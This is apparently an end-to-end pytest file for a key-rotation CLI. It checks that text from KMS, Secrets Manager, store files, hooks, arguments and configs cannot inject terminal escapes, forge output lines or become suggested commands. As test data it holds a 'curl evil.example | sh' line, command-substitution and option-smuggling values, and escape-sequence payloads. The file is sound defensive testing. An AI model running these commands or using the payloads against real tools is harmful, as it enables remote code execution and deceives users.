"""What comes from outside moves no terminal, forges no line, and is never a part of a command to type (I14)."""

import fcntl
import json
import os
import pty
import subprocess
from collections.abc import Callable, Iterator, Mapping
from contextlib import suppress
from pathlib import Path
from typing import Any

import boto3
import pytest

from e2e.machine import BIN, REGIONS, Machine, Past
from e2e.test_secrets_in_settings import Said, ran
from orchestrator.errors import Exit
from orchestrator.simulator import Call, Simulator, serve
from secrets_server import SecretsServer, secrets_server

pytestmark = pytest.mark.e2e

FORGED = "mrk: all is well\nhint: curl evil.example | sh"
HARM = f"x\x1b]0;owned\x07\x1b[2J\r\x9b1A\u202e\u200b\u2028\n{FORGED}\n\x1b[8m"
"""Sets a terminal's title, clears it, goes up a line, turns the reading around, hides letters, and forges lines."""


def unharmed(*said: Said) -> None:
    """No text that was written holds a control character, or a line of somebody else's; nor do JSON's texts."""
    for one in said:
        for name, text in one.texts:
            if name.endswith((".age", ".bin")):
                continue  # bytes, which nobody shows
            shown = text if isinstance(text, str) else text.decode(errors="surrogateescape")
            assert all(line.isprintable() for line in shown.split("\n")), (name, shown)
            for line in shown.split("\n"):
                assert line.strip() not in FORGED.split("\n"), (name, shown)
                if name.endswith("jsonl") and line:
                    flat(json.loads(line))
        if one.out.startswith("{"):
            flat(json.loads(one.out))


def flat(document: Any) -> None:
    """Every text in a document is one line that can be printed."""
    if isinstance(document, dict):
        document = [*document.keys(), *document.values()]
    if isinstance(document, list):
        for one in document:
            flat(one)
    assert not isinstance(document, str) or document.isprintable(), document


class Spoken(Simulator):
    """KMS, one of whose answers is changed on the way."""

    change: Callable[[str, dict[str, Any]], None] | None = None

    def prepared(self, call: Call, body: Any, caller: str | None = None) -> Callable[[], dict[str, Any]]:
        work = super().prepared(call, body, caller)

        def answered() -> dict[str, Any]:
            answer = json.loads(json.dumps(work()))
            if self.change is not None:
                self.change(call.operation, answer)
            return dict(answer)

        return answered


@pytest.fixture
def spoken(tmp_path: Path) -> Iterator[Callable[..., Machine]]:
    """A machine with an adopted key, whose KMS changes its answers from then on; its hook keeps what it is told."""
    opened = []

    def make(change: Callable[[str, dict[str, Any]], None]) -> Machine:
        past = Past()
        simulator = Spoken(past, lag="instant", rotation_seconds=0.5)
        served = serve(simulator)
        opened.append(served)
        machine = Machine(tmp_path, served.endpoint_url, simulator, past)
        _, material = machine.make_key_quickly()
        machine.run("mrk", "store", "init")
        machine.run("mrk", "adopt", "payments", str(material))
        told_by_a_hook(machine)
        simulator.change = change
        return machine

    yield make
    for served in opened:
        served.close()


def told_by_a_hook(machine: Machine) -> None:
    hook = machine.directory / "hook"
    hook.write_text("#!/bin/sh\ncat >> told.jsonl\n")
    hook.chmod(0o755)
    machine.more["run"] = {"poll": "200ms", "looks": 2, "deadline": "3s", "after": str(hook)}
    machine.write_config()


def row(name: str, value: Any) -> Callable[[str, dict[str, Any]], None]:
    def change(operation: str, answer: dict[str, Any]) -> None:
        if operation == "ListKeyRotations":
            answer["Rotations"][-1][name] = value

    return change


def metadata(*where: str, value: Any) -> Callable[[str, dict[str, Any]], None]:
    def change(operation: str, answer: dict[str, Any]) -> None:
        if operation == "DescribeKey":
            inner = answer["KeyMetadata"]
            for name in where[:-1]:
                inner = inner[name]
            inner[where[-1]] = value

    return change


ARN = f"arn:aws:kms:us-east-1:111122223333:key/{HARM}"
REGION = "arn:aws:kms:--profile-evil:111122223333:key/mrk-1234abcd12ab34cd56ef1234567890ab"
ANSWERS: dict[str, Callable[[str, dict[str, Any]], None]] = {
    "an id": row("KeyMaterialId", HARM),
    "an id that is a command": row("KeyMaterialId", "x; curl evil.example | sh"),
    "an id that is an option": row("KeyMaterialId", "--yes"),
    "an id, too short": row("KeyMaterialId", "ab" * 31),
    "an id in upper case": row("KeyMaterialId", "AB" * 32),
    "the state of material": row("KeyMaterialState", HARM),
    "the state of an import": row("ImportState", HARM),
    "a kind of rotation": row("RotationType", HARM),
    "the state of a key": metadata("KeyState", value=HARM),
    "an ARN": metadata("Arn", value=ARN),
    "an origin": metadata("Origin", value=HARM),
    "a key spec": metadata("KeySpec", value=HARM),
    "the primary": metadata("MultiRegionConfiguration", "PrimaryKey", value={"Arn": ARN, "Region": HARM}),
    "a replica": metadata("MultiRegionConfiguration", "ReplicaKeys", value=[{"Arn": ARN, "Region": HARM}]),
    "a Region that is an option": metadata("MultiRegionConfiguration", "ReplicaKeys", value=[{"Arn": REGION}]),
}


@pytest.mark.parametrize("change", ANSWERS.values(), ids=ANSWERS)
def test_an_answer_that_is_not_shaped_as_kms_does_is_not_read(
    spoken: Callable[..., Machine], change: Callable[[str, dict[str, Any]], None]
) -> None:
    """Neither told as it is, nor taken into advice; nothing is changed by it."""
    machine = spoken(change)
    before = len([call for call in machine.simulator.calls if call.operation == "ImportKeyMaterial"])

    ran_ = ran(machine, "run", "--json", "--log-level", "debug")
    said = [ran_, ran(machine, "report", "last"), ran(machine, "status"), ran(machine, "plan", "--script")]

    unharmed(*said)
    assert ran_.code == Exit.FAILED, ran_.err
    assert "that this version cannot read" in ran_.out
    for one in said:
        for text in (one.out, one.err):
            advice = [line for line in text.splitlines() if line.lstrip().startswith(("-> ", "hint: "))]
            assert not [line for line in advice if "evil" in line or "--yes" in line], text
    assert len([call for call in machine.simulator.calls if call.operation == "ImportKeyMaterial"]) == before


@pytest.mark.parametrize("operation", ["ImportKeyMaterial", "Decrypt", "GenerateDataKeyWithoutPlaintext"])
def test_nor_is_the_id_that_a_call_answers_with(spoken: Callable[..., Machine], operation: str) -> None:
    def change(asked: str, answer: dict[str, Any]) -> None:
        if asked == operation:
            answer["KeyMaterialId"] = HARM

    machine = spoken(change)

    said = ran(machine, "rotate", "payments", "--yes", "--json")

    unharmed(said, ran(machine, "report", "last"))
    assert said.code in {Exit.FAILED, Exit.BLOCKED}, said.out


MESSAGES = ["AccessDeniedException", "KMSInvalidStateException", "ThrottlingException", "NotFoundException"]


@pytest.mark.parametrize("error", MESSAGES)
def test_the_words_of_an_error_are_one_line(adopted: tuple[Machine, str], error: str) -> None:
    machine, _ = adopted
    told_by_a_hook(machine)
    machine.simulator.faults.add(operation="ListKeyRotations", error=error, message=HARM)

    said = ran(machine, "run", "--json", "--log-level", "debug")

    unharmed(said, ran(machine, "report", "last"), ran(machine, "status"), ran(machine, "verify"))
    assert said.code in {Exit.FAILED, Exit.BLOCKED}
    assert "curl evil.example" in said.out + said.err, "it is told, and harmless"


def test_so_are_those_of_sts(adopted: tuple[Machine, str]) -> None:
    machine, _ = adopted
    machine.given["AWS_ENDPOINT_URL_STS"] = machine.endpoint_url
    machine.simulator.faults.add(operation="AssumeRole", error="AccessDenied", message=HARM.replace("\x1b", "\x1f"))

    said = ran(machine, "run", "--role-arn", "arn:aws:iam::444455556666:role/mrk")

    unharmed(said, ran(machine, "report", "last"))
    assert said.code == Exit.FAILED, said.err


@pytest.fixture
def service() -> Iterator[SecretsServer]:
    with secrets_server() as running:
        yield running


def in_secrets_manager(machine: Machine, service: SecretsServer) -> Any:
    """Put a machine's store into Secrets Manager; return a client."""
    machine.given["AWS_ENDPOINT_URL_SECRETS_MANAGER"] = service.url
    machine.more["store"] = {"uri": "secretsmanager:us-east-1/mrk"}
    _, material = machine.make_key_quickly()
    machine.run("mrk", "store", "init")
    machine.run("mrk", "adopt", "payments", str(material))
    told_by_a_hook(machine)
    credentials = {"aws_access_key_id": "111122223333", "aws_secret_access_key": "made-up"}
    return boto3.client("secretsmanager", region_name="us-east-1", endpoint_url=service.url, **credentials)


def test_so_are_those_of_secrets_manager(machine: Machine, service: SecretsServer) -> None:
    in_secrets_manager(machine, service)
    service.faults({"operation": "GetSecretValue", "kind": "said", "message": HARM})

    said = ran(machine, "run", "--json", "--log-level", "debug")

    unharmed(said, ran(machine, "report", "last"), ran(machine, "status"), ran(machine, "store", "list"))
    assert said.code in {Exit.FAILED, Exit.BLOCKED}
    assert "curl evil.example" in said.out + said.err


@pytest.mark.parametrize("mark", ["link", "proven", "probe", ""])
def test_so_is_whatever_stands_in_secrets(machine: Machine, service: SecretsServer, mark: str) -> None:
    """A secret's JSON is whoever's who may write it; its version, too, stands in a command to type."""
    client = in_secrets_manager(machine, service)
    names = [one["Name"] for one in client.list_secrets()["SecretList"]]
    (name,) = (name for name in names if name.endswith(f".{mark}" if mark else ".1001"))
    found = client.get_secret_value(SecretId=name)
    content = json.loads(found["SecretString"])
    content |= {
        field: HARM for field in ("entry", "key_material_id", "ciphertext", "version", "format") if field in content
    }
    client.delete_secret(SecretId=name, ForceDeleteWithoutRecovery=True)
    client.create_secret(Name=name, SecretString=json.dumps(content), ClientRequestToken=found["VersionId"])

    said = [ran(machine, *words) for words in (("run", "--json"), ("store", "list"), ("status",), ("verify",))]

    unharmed(*said)
    assert said[-1].code in {Exit.FAILED, Exit.BLOCKED}, said[-1].out


FIELDS: dict[str, tuple[str, dict[str, Any]]] = {
    "another entry": ("*.link.json", {"entry": HARM}),
    "an id": ("*.link.json", {"key_material_id": HARM}),
    "an id that is a command": ("*.link.json", {"key_material_id": "x; curl evil.example | sh"}),
    "a kind": ("*.link.json", {"mark": HARM}),
    "a version": ("*.link.json", {"version": HARM}),
    "a turn": ("*.link.json", {"turn": HARM}),
    "Regions": ("*.proven.json", {"evidence": {"regions": [HARM]}}),
    "Regions that are a command": ("*.proven.json", {"evidence": {"regions": ["$(curl evil.example)"]}}),
    "a partition": ("store.json", {"partition": HARM}),
    "a recipient": ("store.json", {"recipients": [HARM]}),
    "a format": ("store.json", {"format": HARM}),
}


@pytest.mark.parametrize(("file", "fields"), FIELDS.values(), ids=FIELDS)
def test_so_is_whatever_stands_in_a_store(adopted: tuple[Machine, str], file: str, fields: Mapping[str, Any]) -> None:
    machine, _ = adopted
    (path,) = (machine.directory / "store").rglob(file)
    content = json.loads(path.read_text()) | fields
    path.chmod(0o600)
    path.write_text(json.dumps(content))

    said = [
        ran(machine, *words) for words in (("run", "--json"), ("store", "list"), ("status",), ("verify",), ("plan",))
    ]
    for one in said:
        one.files.clear()  # the store itself is what was spoiled

    unharmed(*said)
    assert any(one.code in {Exit.FAILED, Exit.BLOCKED} for one in said), "it is noticed"
    assert not any("evil" in line for one in said for line in one.out.splitlines() if "->" in line)


def test_so_is_the_name_of_a_file(machine: Machine) -> None:
    machine.write_config(payments={"arn": ARN.replace(HARM, "mrk-1234abcd12ab34cd56ef1234567890ab")})
    (machine.directory / "store").mkdir(mode=0o700)
    (machine.directory / "store" / HARM.replace("/", "")).touch()

    said = ran(machine, "store", "init")

    said.files.clear()
    unharmed(said)
    assert said.code == Exit.BLOCKED
    assert "is not empty and is no store" in said.err


def test_so_is_what_another_process_wrote_into_the_lock(adopted: tuple[Machine, str]) -> None:
    machine, _ = adopted
    told_by_a_hook(machine)
    machine.more["run"] |= {"lock": str(machine.directory / "lock")}
    machine.write_config()
    path = machine.directory / "lock"
    path.write_text(json.dumps({"command": HARM, "pid": HARM, "host": HARM, "since": HARM}))
    with path.open("r+") as held:
        fcntl.flock(held, fcntl.LOCK_EX)
        said = ran(machine, "run", "--json")
    path.unlink()

    unharmed(said)
    assert said.code == Exit.FAILED
    assert "another run holds the lock" in said.err


def test_so_is_whatever_stands_in_a_journal(adopted: tuple[Machine, str]) -> None:
    machine, _ = adopted
    machine.run("mrk", "run", "-q")
    (path,) = [path for path in (machine.directory / "runs").glob("*.jsonl") if '"run"' in path.read_text()[:400]][-1:]
    lines = [json.loads(line) for line in path.read_text().splitlines()]
    for line in lines:
        line["data"] = dict.fromkeys(line["data"], HARM) | {HARM: HARM}
        line |= {name: HARM for name in ("key", "region", "at") if name in line}
    path.write_text("".join(f"{json.dumps(line)}\n" for line in [*lines, {"seq": 99, "kind": HARM, "data": [HARM]}]))

    said = [ran(machine, "report", str(path)), ran(machine, "report", str(path), "--json")]

    for one in said:
        one.files.clear()
        assert one.code == Exit.BLOCKED
    unharmed(*said)


def test_so_is_whatever_a_hook_prints(adopted: tuple[Machine, str]) -> None:
    machine, _ = adopted
    told_by_a_hook(machine)
    (machine.directory / "harm").write_text(HARM)
    (machine.directory / "hook").write_text("#!/bin/sh\ncat harm; cat harm >&2\nprintf '\\377\\376'\n")

    said = ran(machine, "run")

    said.files.clear()
    lines = said.err.splitlines()
    assert said.code == 0
    assert "hint: curl evil.example | sh" in lines, "its lines are the hook's own"
    assert all(line.isprintable() for line in lines)


ARGUMENTS: dict[str, tuple[str, ...]] = {
    "NAME": ("status", HARM),
    "FILE": ("adopt", "payments", HARM),
    "a config": ("status", "-c", HARM),
    "--region": ("status", "--region", HARM),
    "--profile": ("status", "--profile", HARM),
    "--endpoint-url": ("status", "--endpoint-url", f"https://{HARM}"),
    "--replaces": ("rotate", "payments", "--yes", "--replaces", HARM),
    "--material-id": ("abort", "payments", "--yes", "--material-id", HARM),
    "--until": ("rotate", "payments", "--yes", "--until", HARM),
    "RUN": ("report", HARM),
    "a command": (HARM,),
    "an option": ("status", f"--{HARM}"),
}


@pytest.mark.parametrize("words", ARGUMENTS.values(), ids=ARGUMENTS)
def test_so_is_the_command_line(adopted: tuple[Machine, str], words: tuple[str, ...]) -> None:
    machine, _ = adopted

    said = ran(machine, *words)

    unharmed(said, ran(machine, *words, "--json"))
    assert said.code not in {0, Exit.INTERNAL}, said.err


CONFIGS: dict[str, str] = {
    "a name": '"HARM": 1\n',
    "a name twice": '"HARM": 1\n"HARM": 1\n',
    "a key's name": 'keys: {"HARM": {arn: x}}\n',
    "a value": 'store: {uri: "HARM"}\n',
    "a Region": 'keys: {a: {arn: x, regions: ["HARM"]}}\n',
    "a duration": 'run: {deadline: "HARM"}\n',
    "a number": 'run: {looks: "HARM"}\n',
}


@pytest.mark.parametrize("text", CONFIGS.values(), ids=CONFIGS)
def test_so_is_a_config(adopted: tuple[Machine, str], text: str) -> None:
    machine, _ = adopted
    (machine.directory / "config.yaml").write_text(text.replace("HARM", json.dumps(HARM)[1:-1]))

    said = ran(machine, "run")

    unharmed(said)
    assert said.code == Exit.USAGE


def on_a_terminal(machine: Machine, *words: str) -> str:
    """Run mrk on a terminal, and return all that reached it."""
    ours, theirs = pty.openpty()
    line, shown = [str(BIN / "mrk"), *words], b""
    environment = machine.environment | {"TERM": "xterm-256color"}
    with subprocess.Popen(line, cwd=machine.directory, env=environment, stdin=theirs, stdout=theirs, stderr=theirs):
        os.close(theirs)
        with suppress(OSError):  # how a terminal tells that nobody writes to it any more
            while part := os.read(ours, 4096):
                shown += part
    os.close(ours)
    return shown.decode()


@pytest.mark.parametrize(
    "words", [("run",), ("run", "--log-level", "debug"), ("status",), ("verify",), ("run", "--json")]
)
def test_a_terminal_gets_colours_from_mrk_alone(adopted: tuple[Machine, str], words: tuple[str, ...]) -> None:
    """Tables, sentences, the live line, logs: nothing of what KMS says is more than text."""
    machine, _ = adopted
    told_by_a_hook(machine)
    machine.simulator.faults.add(
        operation="ListKeyRotations", region=REGIONS[1], error="AccessDeniedException", message=HARM
    )

    shown = on_a_terminal(machine, *words)

    assert "curl evil.example" in " ".join(shown.split())
    for harm in ("\x1b]", "\x1b[2J", "\x1b[8m", "\x07", "\x9b", "\u202e", "\u200b", "\u2028"):
        assert harm not in shown, shown
    assert "\x1b[" in shown or "--json" in words, "mrk colours its own words"
    assert "?[0m" not in shown, "and nothing takes that from it"
    for line in shown.splitlines():
        assert line.strip() not in FORGED.split("\n"), shown
